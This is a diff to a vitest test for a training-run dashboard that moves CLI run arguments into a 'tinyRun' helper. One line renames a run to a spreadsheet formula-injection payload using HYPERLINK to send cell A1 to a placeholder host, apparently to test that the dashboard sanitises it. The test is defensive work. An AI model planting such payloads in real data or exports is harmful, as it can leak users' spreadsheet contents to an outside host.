@@ -11,6 +11,7 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import type { RunMeta } from '../../electron/common';
 import { useDashboard } from './open-dashboard';
 import { ARTIFACTS, CHROMIUM, ROOT } from './serve-process';
+import { tinyRun } from '../helpers/tiny';
 
 describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => {
   let env: NodeJS.ProcessEnv;
@@ -21,7 +22,7 @@ describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => 
   const ui = useDashboard({ page: 'case' });
   beforeAll(async () => {
     env = { ...ui().serve.env, NO_COLOR: '1' };
-    const r = cohort(['run', '--local', '--stem', 'cifar', '--image-size', '8', '--width', '0.25', '--batch-size', '2', '--classes', '10', '--steps', '6', '--log-steps', '1', '--warmup-steps', '0', '--tag', 'baseline', '--notes', 'before the change', '--json']);
+    const r = cohort(['run', '--local', ...tinyRun({ steps: 6, warmupSteps: 0 }), '--tag', 'baseline', '--notes', 'before the change', '--json']);
     expect(r.status, r.stderr).toBe(0);
     runId = (JSON.parse(r.stdout.split('\n')[0]!) as { runId: string }).runId;
     const ren = cohort(['runs', 'rename', runId, '--', '-2+3+HYPERLINK("http://x.example/?q="&A1,"o")']);
